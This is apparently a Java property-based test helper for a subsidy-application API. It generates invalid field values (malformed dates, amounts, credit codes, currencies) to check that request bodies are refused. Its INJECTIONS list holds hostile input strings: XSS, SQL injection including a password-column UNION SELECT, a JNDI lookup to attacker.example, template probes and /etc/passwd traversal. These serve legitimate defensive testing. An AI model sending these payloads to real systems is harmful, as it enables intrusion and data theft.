package cn.bureau.subsidy.http;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Values the contract refuses, by the kind of field they are put in. Every value here is wrong for its kind whatever
 * the rest of the body holds, so a body with one of them must be refused naming that field.
 */
final class HostileValues {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Markup, script, SQL and template strings: data in a free-text field, but never a valid code, date or amount. */
    static final List<String> INJECTIONS = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE application; --", "1' OR '1'='1", "' UNION SELECT user_id_, pwd_ FROM act_id_user --",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "javascript:alert(1)", "<!--", "]]>",
            "../../../etc/passwd", "%00", "\\u0000", "undefined", "NaN", "[]", "{}");

    enum Kind {
        TEXT, CODE, USCC, BOOL, INT, DATE, INSTANT, AMOUNT, CURRENCY, PERCENT, FX_RATE, BUDGET, ENUM, COUNTRY,
        ACCOUNT_NO, UUID, OBJECT, ARRAY
    }

    /** A field of a body: where it is, what kind of value it takes, its limits. */
    record Slot(String path, Kind kind, boolean required, int maxLength, long min, long max) {
        static Slot of(String path, Kind kind) {
            return new Slot(path, kind, true, 0, 0, 0);
        }

        static Slot text(String path, int maxLength, boolean required) {
            return new Slot(path, Kind.TEXT, required, maxLength, 0, 0);
        }

        static Slot integer(String path, long min, long max, boolean required) {
            return new Slot(path, Kind.INT, required, 0, min, max);
        }

        Slot optional() {
            return new Slot(path, kind, false, maxLength, min, max);
        }
    }

    private HostileValues() {
    }

    static Arbitrary<JsonNode> invalidFor(Slot slot) {
        Arbitrary<JsonNode> wrongType = wrongType(slot.kind());
        Arbitrary<JsonNode> specific = switch (slot.kind()) {
            case TEXT -> text(slot);
            case CODE -> strings(Arbitraries.of("ab", "sz-2026", "-LEADING", "A B C", "X".repeat(65), "ÄÖÜ-2026", ""),
                    injection());
            case USCC -> strings(wrongCheckCharacter(), Arbitraries.strings().alpha().numeric().ofMinLength(0)
                    .ofMaxLength(40).filter(s -> s.length() != 18), Arbitraries.of("91440300ma5f000181",
                            "91440300MA5F0001I1", "91440300MA5F0001O1", "９１４４０３００ＭＡ５Ｆ０００１８１"),
                    injection());
            case BOOL -> Arbitraries.just(NODES.textNode("true")).map(n -> (JsonNode) n);
            case INT -> Arbitraries.oneOf(
                    Arbitraries.longs().between(slot.min() - 1_000_000, slot.min() - 1).map(NODES::numberNode),
                    Arbitraries.longs().between(slot.max() + 1, Long.MAX_VALUE).map(NODES::numberNode),
                    Arbitraries.of(new BigInteger("99999999999999999999999999999"), BigInteger.TWO.pow(64))
                            .map(NODES::numberNode),
                    Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("1.5"), new BigDecimal("-0.5"))
                            .map(NODES::numberNode));
            case DATE -> strings(Arbitraries.of("2025-02-30", "2025-02-29", "2025-13-01", "2025-00-10", "2025-04-31",
                    "2025-1-1", "20250101", "2025/01/01", "01.05.2025", "+999999999-01-01", "-999999999-01-01",
                    "1899-12-31", "2101-01-01", "0000-01-01", "9999-12-31", "2025-06-01T25:00:00", ""), injection());
            case INSTANT -> strings(Arbitraries.of("2026-02-30T00:00:00+08:00", "2026-04-16T24:01:00+08:00",
                    "2026-04-16T00:00:00", "2026-04-16", "2026-04-16T00:00:00+25:00", "+999999999-04-16T00:00:00Z",
                    "-999999999-04-16T00:00:00Z", "1999-12-31T00:00:00+08:00", "2101-01-02T00:00:00+08:00",
                    "16/04/2026 00:00", ""), injection());
            case AMOUNT -> strings(Arbitraries.of("-1", "-0.01", "1e30", "1E5", "1.001", "0.125", "99999999999999",
                    "1" + "0".repeat(400), "NaN", "Infinity", "-Infinity", "1,000", " 100", "100 ", "", "0x10",
                    "+5", "１２３", "٣", "1.", ".5", "--1"), Arbitraries.longs().between(Long.MIN_VALUE, -1)
                            .map(String::valueOf), injection());
            case CURRENCY -> strings(Arbitraries.strings().withCharRange('A', 'Z').ofLength(3)
                    .filter(c -> !c.equals("CNY") && !c.equals("USD")), Arbitraries.of("usd", "US", "USDD", "", "12$",
                            "€", "CN¥", "U.S"), injection());
            case PERCENT -> Arbitraries.oneOf(strings(Arbitraries.of("0", "-1", "100", "100.0001", "1e3", "4.12345",
                    "NaN", "four", "4,2", ""), injection()), Arbitraries.of(0, -3, 100, 250).map(NODES::numberNode));
            case FX_RATE -> Arbitraries.oneOf(strings(Arbitraries.of("0", "-7.0288", "1e99", "1000000",
                    "0.0000001", "7.02881234", "seven", ""), injection()),
                    Arbitraries.of(new BigDecimal("1e400"), BigDecimal.ZERO, new BigDecimal("-1")).map(NODES::numberNode));
            case BUDGET -> Arbitraries.oneOf(Arbitraries.of(new BigDecimal("-1"), new BigDecimal("0.5"),
                    new BigDecimal("100000001"), new BigDecimal("1e400"), new BigDecimal("5000.01"))
                    .map(NODES::numberNode), strings(Arbitraries.of("lots", "5,000", ""), injection()));
            case ENUM -> strings(Arbitraries.strings().withCharRange('A', 'Z').withChars('_').ofMinLength(1)
                    .ofMaxLength(30).filter(HostileValues::notAnEnumConstant), Arbitraries.of("investment",
                            "Investment", "loan_interest", " INVESTMENT", ""), injection());
            case COUNTRY -> strings(Arbitraries.of("K", "KHM", "kh", "12", "K1", "", "柬埔寨"), injection());
            case ACCOUNT_NO -> strings(Arbitraries.strings().numeric().ofMaxLength(5), Arbitraries.strings().numeric()
                    .ofMinLength(41).ofMaxLength(300), Arbitraries.of("6222 0212 3456", "账号123456", "12345_678"),
                    injection());
            case UUID -> strings(Arbitraries.strings().alpha().numeric().withChars('-').ofMaxLength(40)
                    .filter(s -> !isUuid(s)), injection());
            case OBJECT, ARRAY -> wrongType;
        };
        Arbitrary<JsonNode> any = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(1, wrongType),
                net.jqwik.api.Tuple.of(3, specific));
        // An empty string reads as "absent", which an optional field allows.
        return slot.required() ? any : any.filter(value -> !(value.isTextual() && value.asText().isEmpty()));
    }

    /** A JSON value of a type the kind never takes (a number for text, a string for a yes/no, ...). */
    static Arbitrary<JsonNode> wrongType(Kind kind) {
        Arbitrary<JsonNode> number = Arbitraries.oneOf(Arbitraries.integers().map(NODES::numberNode),
                Arbitraries.doubles().between(-1e9, 1e9).map(NODES::numberNode));
        Arbitrary<JsonNode> bool = Arbitraries.of(true, false).map(NODES::booleanNode);
        Arbitrary<JsonNode> object = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(8)
                .map(key -> NODES.objectNode().put(key, 1));
        Arbitrary<JsonNode> array = Arbitraries.strings().alpha().ofMaxLength(8)
                .map(item -> NODES.arrayNode().add(item));
        Arbitrary<JsonNode> text = Arbitraries.oneOf(Arbitraries.of("abc", "yes", "1 OR 1=1", "<b>1</b>"),
                injection()).map(NODES::textNode);
        return switch (kind) {
            case BOOL -> Arbitraries.oneOf(number, object, array, Arbitraries.of("true", "false", "yes", "1")
                    .map(NODES::textNode));
            case INT, BUDGET -> Arbitraries.oneOf(bool, object, array, text);
            case OBJECT -> Arbitraries.oneOf(number, bool, array, text);
            case ARRAY -> Arbitraries.oneOf(number, bool, object, text);
            case PERCENT, FX_RATE -> Arbitraries.oneOf(bool, object, array);
            // Numbers a lenient reader takes as days or seconds since 1970, inside the years the contract allows.
            case DATE -> Arbitraries.oneOf(bool, object, array, Arbitraries.longs().between(0, 47_000)
                    .map(NODES::numberNode));
            case INSTANT -> Arbitraries.oneOf(bool, object, array, Arbitraries.longs().between(946_684_800L,
                    4_102_444_800L).map(NODES::numberNode), Arbitraries.of(1.7762688E9, 1776268800.5)
                    .map(NODES::numberNode));
            default -> Arbitraries.oneOf(number, bool, object, array);
        };
    }

    /** Over-long text, text with control characters or broken UTF-16, and (when required) blank text. */
    private static Arbitrary<JsonNode> text(Slot slot) {
        Arbitrary<String> tooLong = Arbitraries.integers().between(slot.maxLength() + 1, 100_000)
                .flatMap(length -> Arbitraries.of('x', '中', 'é', ' ', '<').map(c -> String.valueOf(c).repeat(length)))
                .map(s -> "a" + s.substring(1));
        Arbitrary<String> control = Combinators.combine(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(20),
                Arbitraries.chars().range('\u0000', '\u001f').filter(c -> c != '\t' && c != '\n' && c != '\r')
                        .injectDuplicates(0.1),
                Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(20)).as((a, c, b) -> a + c + b);
        Arbitrary<String> brokenUnicode = Arbitraries.of("\ud800", "x\udc00y", "\udbff", "a\ud83d").map(s -> "n" + s);
        Arbitrary<String> blank = Arbitraries.of("", " ", "   ", "\t", "\n");
        Arbitrary<String> any = slot.required() ? Arbitraries.oneOf(tooLong, control, brokenUnicode, blank)
                : Arbitraries.oneOf(tooLong, control, brokenUnicode);
        return any.map(NODES::textNode);
    }

    @SafeVarargs
    private static Arbitrary<JsonNode> strings(Arbitrary<String>... choices) {
        return Arbitraries.oneOf(List.of(choices)).map(NODES::textNode);
    }

    static Arbitrary<String> injection() {
        return Arbitraries.of(INJECTIONS);
    }

    /** The two demo USCCs and a known-good one with every other check character. */
    private static Arbitrary<String> wrongCheckCharacter() {
        return Arbitraries.of("91440300MA5F000181", "91440300MA5F00026U").flatMap(valid ->
                Arbitraries.of("0123456789ABCDEFGHJKLMNPQRTUWXY".chars().mapToObj(c -> (char) c).toList())
                        .filter(c -> c != valid.charAt(17)).map(c -> valid.substring(0, 17) + c));
    }

    private static boolean notAnEnumConstant(String s) {
        return !List.of("INVESTMENT", "CONTRACTING", "DESIGN_CONSULTING", "PRE_PROJECT_FEES", "LOAN_INTEREST",
                "INSURANCE_PREMIUM", "ZONE_INFRASTRUCTURE").contains(s);
    }

    private static boolean isUuid(String s) {
        try {
            java.util.UUID.fromString(s);
            return true;
        } catch (IllegalArgumentException e) {
            return false;
        }
    }
}
